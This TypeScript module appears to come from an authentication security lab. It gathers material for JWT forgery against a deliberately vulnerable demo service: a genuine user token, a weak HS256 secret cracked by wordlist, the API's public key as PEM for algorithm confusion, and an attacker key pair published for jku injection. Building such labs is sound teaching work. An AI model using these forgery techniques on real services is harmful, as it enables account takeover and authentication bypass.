/**
 * Everything the forgeries need, gathered once: Jane's genuine access token, the vulnerable
 * service's weak-secret token and the secret cracked from it, the real API's published key as PEM
 * (ES256 mode), and a fresh attacker key pair whose public half is published on the attacker site.
 */
import {
  exportPublicJwk,
  generateAttackerKeyPair,
  publicJwkToPem,
} from '@authlab/flows/forgery/attacker-keys';
import { crackHs256Secret, WEAK_SECRET_WORDLIST } from '@authlab/flows/forgery/crack-secret';
import { type CompactParts, splitCompact } from '@authlab/flows/forgery/jose-segments';
import { ATTACKER_KID, type ForgeryMaterial } from '@authlab/flows/forgery/plan-forgery';
import {
  logInForger,
  publishAttackerJwk,
  readPublishedJwk,
  readVerifierInfo,
} from './forgery-client.ts';

export interface PreparedForgeries {
  readonly original: CompactParts;
  readonly weak: CompactParts;
  readonly material: ForgeryMaterial;
  /** The real API's signing algorithm, read from Jane's token header. */
  readonly algorithm: string;
}

function parts(token: string): CompactParts {
  const split = splitCompact(token);
  if (split === null) throw new Error('Not a compact JWS.');
  return split;
}

export async function prepareForgeries(): Promise<PreparedForgeries> {
  const original = parts(await logInForger());
  const info = await readVerifierInfo();
  const weak = parts(info.weak_token);
  const published = await readPublishedJwk();
  const attacker = await generateAttackerKeyPair();
  const attackerPublicJwk = await exportPublicJwk(attacker.publicKey, ATTACKER_KID);
  await publishAttackerJwk(attackerPublicJwk);
  const cracked = await crackHs256Secret(weak, WEAK_SECRET_WORDLIST, () => performance.now());
  return {
    original,
    weak,
    algorithm: String(original.header.alg),
    material: {
      attackerPrivateKey: attacker.privateKey,
      attackerPublicJwk,
      jkuUrl: `${info.jku_allowed_origin}/.well-known/jwks.json`,
      ...(published === null ? {} : { publicKeyPem: publicJwkToPem(published) }),
      ...(cracked.secret === null ? {} : { crackedSecret: cracked.secret }),
    },
  };
}
